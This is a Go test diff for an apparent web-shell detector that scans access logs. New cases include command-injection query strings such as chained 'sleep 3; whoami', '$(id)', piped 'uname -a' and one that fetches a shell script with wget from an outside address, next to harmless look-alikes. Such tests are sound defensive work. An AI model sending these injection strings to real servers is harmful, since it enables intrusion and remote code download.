@@ -175,6 +175,19 @@ func TestCommandInParameter(t *testing.T) {
 		{"/uploads/avatar.pht?cmd=uname+-a", true},
 		{"/uploads/x.php7?c=whoami", true},
 		{"/CFIDE/x.cfml?cmd=whoami", true},
+		// A command after a shell's separator, whatever comes first (a JSP
+		// shell's "sleep 3; whoami" raised nothing before).
+		{"/pcmd.jsp?c=sleep%203;%20whoami", true},
+		{"/x.php?q=cd+%2Ftmp+%26%26+wget+http%3A%2F%2F198.51.100.7%2Fa.sh", true},
+		{"/x.php?q=true%3Bid", true},
+		{"/x.php?q=%24(id)", true},
+		{"/x.php?q=x%7Cuname+-a", true},
+		{"/search.php?q=Q%26A", false},
+		{"/search.php?q=tom+%26+jerry", false},
+		{"/search.php?q=dog%7Ccat", false},
+		{"/search.php?q=B%26W", false},
+		{"/search.php?q=rock%3Bpaper", false},
+		{"/search.php?q=AT%26T+ps+vita", false},
 	} {
 		line := `203.0.113.7 - - [26/Nov/2026:10:00:01 +0000] "GET ` + tt.target + ` HTTP/1.1" 200 31 "-" "curl/8.5.0"`
 		if got := requestMatches(t, det, line, rule); got != tt.want {
@@ -714,4 +727,25 @@ func TestScriptWriteByDescendant(t *testing.T) {
 			t.Errorf("pid %d writes %s: alert %v, want %v (ancestry %v)", c.pid, c.file, got, c.want, detection.LookupStrings(doc, "webshell.ancestry.name"))
 		}
 	}
+}
+
+// The probe rule is the parameter rule answered with an error, with the
+// same commands, chained ones included.
+func TestCommandProbe(t *testing.T) {
+	const probe, param = "6d1c3f0e-4b7a-4c52-9d0b-2f7e5a8c1a09", "6d1c3f0e-4b7a-4c52-9d0b-2f7e5a8c1a08"
+	det, err := detector.New(config.Default())
+	if err != nil {
+		t.Fatal(err)
+	}
+	format := `203.0.113.7 - - [27/Nov/2026:10:00:01 +0000] "%s HTTP/1.1" %d 0 "-" "curl/8.0"`
+	checkRequests(t, det, probe, format, []requestCase{
+		{"GET /shell.php?cmd=whoami", 404, true},
+		{"GET /shell.php?c=sleep%203;%20whoami", 404, true},
+		{"GET /shell.php?c=sleep%203;%20whoami", 200, false},
+		{"GET /search.php?q=tom+%26+jerry", 404, false},
+	})
+	checkRequests(t, det, param, format, []requestCase{
+		{"GET /shell.php?c=sleep%203;%20whoami", 200, true},
+		{"GET /shell.php?c=sleep%203;%20whoami", 404, false},
+	})
 }
